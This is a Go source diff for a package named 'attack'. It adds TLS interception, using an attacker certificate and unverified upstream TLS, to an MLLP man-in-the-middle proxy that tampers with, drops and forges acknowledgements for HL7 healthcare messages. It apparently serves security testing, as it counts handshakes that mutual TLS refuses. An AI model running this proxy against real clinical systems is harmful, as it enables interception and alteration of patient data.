@@ -1,6 +1,7 @@
 package attack
 
 import (
+	"crypto/tls"
 	"bufio"
 	"bytes"
 	"context"
@@ -60,15 +61,16 @@ type ProxyStats struct {
 	Dropped     int64 // messages not forwarded
 	Forged      int64 // acknowledgements forged for dropped messages
 	Unparsed    int64 // frames or packets that did not parse, forwarded unchanged
+	TLSRefused  int64 // TLS interceptions the client (or the upstream) refused
 }
 
 type proxyCounters struct {
-	conns, fwd, changed, dropped, forged, unparsed atomic.Int64
+	conns, fwd, changed, dropped, forged, unparsed, tlsRefused atomic.Int64
 }
 
 func (c *proxyCounters) stats() ProxyStats {
 	return ProxyStats{Connections: c.conns.Load(), Forwarded: c.fwd.Load(), Changed: c.changed.Load(),
-		Dropped: c.dropped.Load(), Forged: c.forged.Load(), Unparsed: c.unparsed.Load()}
+		Dropped: c.dropped.Load(), Forged: c.forged.Load(), Unparsed: c.unparsed.Load(), TLSRefused: c.tlsRefused.Load()}
 }
 
 // MLLPProxyConfig configures an MLLP proxy. The zero value (with Upstream)
@@ -96,6 +98,15 @@ type MLLPProxyConfig struct {
 	// Logger receives one line per tampered or dropped message; nil
 	// discards.
 	Logger *slog.Logger
+	// InterceptTLS, when set, makes the proxy try TLS interception
+	// (sslsplit-style): a client that opens with a TLS handshake is answered
+	// with this server configuration (the attacker's own certificate, e.g.
+	// from SelfSignedTLS), and the proxy connects upstream over TLS with
+	// UpstreamTLS (nil: no client certificate, server not verified). Under
+	// mutual TLS with pinned peers the client refuses the attacker's
+	// certificate: the handshake fails and Stats().TLSRefused counts it.
+	InterceptTLS *tls.Config
+	UpstreamTLS  *tls.Config
 }
 
 // MLLPProxy is a man in the middle for MLLP: it accepts clients, connects
@@ -168,6 +179,29 @@ func (l *link) write(dir Direction, b []byte) error {
 func (p *MLLPProxy) serve(client net.Conn, id uint64) {
 	defer p.wg.Done()
 	defer client.Close()
+	intercept := false
+	if p.cfg.InterceptTLS != nil {
+		pc := &peekConn{Conn: client, br: bufio.NewReader(client)}
+		_ = client.SetReadDeadline(time.Now().Add(10 * time.Second))
+		first, err := pc.br.Peek(1)
+		_ = client.SetReadDeadline(time.Time{})
+		if err != nil {
+			return
+		}
+		client = pc
+		if first[0] == 0x16 { // a TLS handshake record
+			tc := tls.Server(pc, p.cfg.InterceptTLS)
+			hctx, hcancel := context.WithTimeout(context.Background(), 10*time.Second)
+			err := tc.HandshakeContext(hctx)
+			hcancel()
+			if err != nil {
+				p.cnt.tlsRefused.Add(1)
+				p.log.Info("mllp proxy: TLS interception refused by the client", "conn", id, "err", err)
+				return
+			}
+			client, intercept = tc, true
+		}
+	}
 	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
 	up, err := p.cfg.Targets.Dial(ctx, "tcp", p.cfg.Upstream)
 	cancel()
@@ -179,6 +213,22 @@ func (p *MLLPProxy) serve(client net.Conn, id uint64) {
 		return
 	}
 	defer up.Close()
+	if intercept {
+		ucfg := p.cfg.UpstreamTLS
+		if ucfg == nil {
+			ucfg = &tls.Config{InsecureSkipVerify: true} // the attacker has no way to verify, and does not care
+		}
+		tu := tls.Client(up, ucfg)
+		hctx, hcancel := context.WithTimeout(context.Background(), 10*time.Second)
+		err := tu.HandshakeContext(hctx)
+		hcancel()
+		if err != nil {
+			p.cnt.tlsRefused.Add(1)
+			p.log.Info("mllp proxy: upstream refused the attacker's TLS", "conn", id, "err", err)
+			return
+		}
+		up = tu
+	}
 	l := &link{id: id, client: client, upstream: up}
 	done := make(chan struct{})
 	go func() {
@@ -256,3 +306,11 @@ func (p *MLLPProxy) pipe(l *link, dir Direction, src net.Conn) {
 		}
 	}
 }
+
+// peekConn is a connection whose first bytes were peeked.
+type peekConn struct {
+	net.Conn
+	br *bufio.Reader
+}
+
+func (c *peekConn) Read(b []byte) (int, error) { return c.br.Read(b) }
